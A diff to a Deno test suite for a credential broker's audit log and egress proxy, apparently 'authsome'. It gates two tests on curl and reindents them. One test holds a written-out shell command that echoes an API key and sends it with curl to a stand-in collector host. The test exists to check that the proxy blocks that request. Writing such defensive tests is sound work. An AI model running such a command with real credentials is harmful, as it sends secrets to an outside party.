@@ -14,82 +14,96 @@ import {
   openAcmeHome,
   OTHER_HOST,
 } from "../support/acme_home.ts";
+import { works } from "../support/client_programs.ts";
 import { startCommand } from "../support/running_command.ts";
+
+const WITH_CURL = { ignore: !await works("curl", "--version") };
 
 /** In the path, the query, a header and the body of the run's requests: none of them is written down. */
 const MARKS = ["path-mark-51c2", "query-mark-9e07", "header-mark-77ab", "body-mark-3d4e"];
 
-Deno.test("what a run did with a credential is in the log, by host, method and answer, and nothing of what it said", async () => {
-  await using acme = await openScene();
-  const [path, query, header, body] = MARKS;
-  const url = `https://${ACME_HOST}/${path}?q=${query}`;
-  const curl = ["curl", "-s", "-o", "/dev/null", "-H", `'X-Mark: ${header}'`];
-  const post = `${curl.join(" ")} --data ${body} '${url}'`;
-  const get = `${curl.join(" ")} '${url}'`;
+Deno.test(
+  "what a run did with a credential is in the log, by host, method and answer, and nothing of what it said",
+  WITH_CURL,
+  async () => {
+    await using acme = await openScene();
+    const [path, query, header, body] = MARKS;
+    const url = `https://${ACME_HOST}/${path}?q=${query}`;
+    const curl = ["curl", "-s", "-o", "/dev/null", "-H", `'X-Mark: ${header}'`];
+    const post = `${curl.join(" ")} --data ${body} '${url}'`;
+    const get = `${curl.join(" ")} '${url}'`;
 
-  const ran = await acme.run(["/bin/sh", "-c", `${get}; ${get}; ${post}`], {
-    args: ["--deny-unmatched"],
-  });
-  await acme.run(["curl", "-s", `https://${OTHER_HOST}/`], { args: ["--deny-unmatched"] });
+    const ran = await acme.run(["/bin/sh", "-c", `${get}; ${get}; ${post}`], {
+      args: ["--deny-unmatched"],
+    });
+    await acme.run(["curl", "-s", `https://${OTHER_HOST}/`], { args: ["--deny-unmatched"] });
 
-  assert.equal(ran.code, 0, ran.stderr);
-  const entries = await readLog(acme);
-  const uses = entries.filter(({ event }) => event === "use");
-  const counted = new Map<string, number>();
-  for (const { details } of uses) {
-    const { method, host, statuses } = details as Record<string, string> & {
-      statuses: Record<string, number>;
-    };
-    for (const [kind, count] of Object.entries(statuses)) {
-      const key = `${method} ${host} ${kind}`;
-      counted.set(key, (counted.get(key) ?? 0) + count);
+    assert.equal(ran.code, 0, ran.stderr);
+    const entries = await readLog(acme);
+    const uses = entries.filter(({ event }) => event === "use");
+    const counted = new Map<string, number>();
+    for (const { details } of uses) {
+      const { method, host, statuses } = details as Record<string, string> & {
+        statuses: Record<string, number>;
+      };
+      for (const [kind, count] of Object.entries(statuses)) {
+        const key = `${method} ${host} ${kind}`;
+        counted.set(key, (counted.get(key) ?? 0) + count);
+      }
     }
-  }
-  assert.deepEqual(Object.fromEntries(counted), {
-    [`GET ${ACME_HOST} 2xx`]: 2,
-    [`POST ${ACME_HOST} 2xx`]: 1,
-  });
-  const run = uses[0]!.run;
-  assert.equal(entries.find(({ event }) => event === "grant_start")?.run, run);
-  assert.ok(entries.some(({ event, run: id }) => event === "resolve" && id === run));
-  assert.ok(
-    entries.some(({ event, details }) =>
-      event === "proxy_deny" && details?.["host"] === OTHER_HOST &&
-      details["reason"] === "HostNotAllowedError"
-    ),
-  );
+    assert.deepEqual(Object.fromEntries(counted), {
+      [`GET ${ACME_HOST} 2xx`]: 2,
+      [`POST ${ACME_HOST} 2xx`]: 1,
+    });
+    const run = uses[0]!.run;
+    assert.equal(entries.find(({ event }) => event === "grant_start")?.run, run);
+    assert.ok(entries.some(({ event, run: id }) => event === "resolve" && id === run));
+    assert.ok(
+      entries.some(({ event, details }) =>
+        event === "proxy_deny" && details?.["host"] === OTHER_HOST &&
+        details["reason"] === "HostNotAllowedError"
+      ),
+    );
 
-  await acme.home.authsome(["get", "acme", "--show-secret"]);
-  await acme.home.authsome(["export", "acme"]);
-  await acme.home.authsome(["logout", "acme"]);
-  await acme.home.authsome(["revoke", "acme"]);
-  await acme.home.authsome(["remove", "acme"]);
-  const text = await Deno.readTextFile(logOf(acme));
-  for (const mark of [...MARKS, ACME_KEY]) assert.equal(text.includes(mark), false, mark);
-  assert.equal(/[?&]q=/.test(text), false);
-  const events = new Set((await readLog(acme)).map(({ event }) => event));
-  for (const event of ["register", "login", "get", "export", "logout", "revoke", "remove"]) {
-    assert.ok(events.has(event as AuditLine["event"]), `${event} is in the log`);
-  }
-});
+    await acme.home.authsome(["get", "acme", "--show-secret"]);
+    await acme.home.authsome(["export", "acme"]);
+    await acme.home.authsome(["logout", "acme"]);
+    await acme.home.authsome(["revoke", "acme"]);
+    await acme.home.authsome(["remove", "acme"]);
+    const text = await Deno.readTextFile(logOf(acme));
+    for (const mark of [...MARKS, ACME_KEY]) assert.equal(text.includes(mark), false, mark);
+    assert.equal(/[?&]q=/.test(text), false);
+    const events = new Set((await readLog(acme)).map(({ event }) => event));
+    for (const event of ["register", "login", "get", "export", "logout", "revoke", "remove"]) {
+      assert.ok(events.has(event as AuditLine["event"]), `${event} is in the log`);
+    }
+  },
+);
 
-Deno.test("a placeholder sent elsewhere is stopped, said on stderr, and in the log; its text in neither", async () => {
-  await using acme = await openScene();
-  const send = 'echo "$ACME_API_KEY"; curl -s -H "X-Key: $ACME_API_KEY" http://collector.test/';
+Deno.test(
+  "a placeholder sent elsewhere is stopped, said on stderr, and in the log; its text in neither",
+  WITH_CURL,
+  async () => {
+    await using acme = await openScene();
+    const send = 'echo "$ACME_API_KEY"; curl -s -H "X-Key: $ACME_API_KEY" http://collector.test/';
 
-  const { stdout, stderr } = await acme.run(["/bin/sh", "-c", send]);
+    const { stdout, stderr } = await acme.run(["/bin/sh", "-c", send]);
 
-  const [placeholder, answer] = stdout.split("\n");
-  assert.equal(JSON.parse(answer!).error, "PlaceholderLeakError");
-  assert.match(stderr, /blocked a request to collector\.test: it carried the placeholder of acme/);
-  const denials = (await readLog(acme)).filter(({ event }) => event === "proxy_deny");
-  assert.deepEqual(denials.map(({ details }) => [details?.["host"], details?.["reason"]]), [
-    ["collector.test", "PlaceholderLeakError"],
-  ]);
-  assert.ok(placeholder!.length > 15);
-  assert.ok(!(await Deno.readTextFile(logOf(acme))).includes(placeholder!));
-  assert.ok(!stderr.includes(placeholder!));
-});
+    const [placeholder, answer] = stdout.split("\n");
+    assert.equal(JSON.parse(answer!).error, "PlaceholderLeakError");
+    assert.match(
+      stderr,
+      /blocked a request to collector\.test: it carried the placeholder of acme/,
+    );
+    const denials = (await readLog(acme)).filter(({ event }) => event === "proxy_deny");
+    assert.deepEqual(denials.map(({ details }) => [details?.["host"], details?.["reason"]]), [
+      ["collector.test", "PlaceholderLeakError"],
+    ]);
+    assert.ok(placeholder!.length > 15);
+    assert.ok(!(await Deno.readTextFile(logOf(acme))).includes(placeholder!));
+    assert.ok(!stderr.includes(placeholder!));
+  },
+);
 
 Deno.test("log -f shows what comes, filtered, also over a restart of the daemon, until Ctrl-C", async () => {
   await using acme = await openScene();
